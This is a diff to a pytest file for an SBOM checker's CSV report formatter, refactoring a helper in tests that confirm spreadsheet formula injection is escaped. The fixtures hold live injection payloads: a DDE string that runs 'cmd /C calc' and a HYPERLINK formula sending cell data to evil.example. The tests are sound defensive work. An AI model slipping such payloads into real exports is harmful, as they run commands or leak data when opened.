@@ -13,7 +13,7 @@ import io
 
 import pytest
 
-from sbomcheck.findings import Finding, Report, RuleStatus, Severity
+from sbomcheck.findings import ComponentSummary, Finding, Report, RuleOutcome, RuleStatus, Severity
 from sbomcheck.report import OutputFormat, get_formatter
 from sbomcheck.report.csv import COLUMNS, FORMULA_STARTS, CsvFormatter, cell, csv_text
 from tests.report.fixtures import (
@@ -115,7 +115,7 @@ def test_milestones_of_one_rule_fold_into_the_weightiest() -> None:
     ],
 )
 def test_a_finding_no_rule_applies_to_still_has_its_row(
-    rules: tuple[object, ...], note: str
+    rules: tuple[RuleOutcome, ...], note: str
 ) -> None:
     finding = dataclasses.replace(
         ENGINE_FINDING, rules=rules, severity=Severity.WARNING, notes=("seen after the ban",)
@@ -130,8 +130,7 @@ def test_no_findings_is_the_header_only() -> None:
     assert out == ",".join(COLUMNS) + "\r\n"
 
 
-def _with_names(**names: str) -> Report:
-    component = dataclasses.replace(ENGINE_FINDING.component, **names)
+def _with_component(component: ComponentSummary) -> Report:
     finding: Finding = dataclasses.replace(
         ENGINE_FINDING, component=component, paths=(("@SUM(1+1)*cmd|' /C calc'!A0", "x"),)
     )
@@ -139,11 +138,14 @@ def _with_names(**names: str) -> Report:
 
 
 def test_formula_injection_is_neutralised() -> None:
-    report = _with_names(
-        name='=HYPERLINK("https://evil.example/?"&A1,"click")',
-        version="+1",
-        purl="-2+3",
-        document="@evil.json",
+    report = _with_component(
+        dataclasses.replace(
+            ENGINE_FINDING.component,
+            name='=HYPERLINK("https://evil.example/?"&A1,"click")',
+            version="+1",
+            purl="-2+3",
+            document="@evil.json",
+        )
     )
     row = rows_of(report)[0]
     assert row["component"] == '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -153,7 +155,9 @@ def test_formula_injection_is_neutralised() -> None:
 
 @pytest.mark.parametrize("start", ["\t", "\r", "\n", "\x1b"])
 def test_a_control_character_first_is_shown_escaped(start: str) -> None:
-    row = rows_of(_with_names(name=f"{start}=1+1"))[0]
+    row = rows_of(
+        _with_component(dataclasses.replace(ENGINE_FINDING.component, name=f"{start}=1+1"))
+    )[0]
     # Escaped first (`\t=1+1`): the cell starts with a backslash, not a formula.
     assert row["component"].startswith("\\") and row["component"].endswith("=1+1")
 
